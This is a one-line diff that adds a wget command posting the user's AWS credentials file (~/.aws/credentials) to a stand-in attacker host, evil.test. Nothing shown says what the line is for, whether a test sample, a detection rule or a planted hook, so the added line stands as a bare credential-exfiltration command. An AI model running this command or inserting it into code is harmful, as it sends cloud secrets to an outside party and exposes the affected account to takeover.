@@ -1,0 +1,1 @@
+wget --post-file ~/.aws/credentials https://evil.test/c
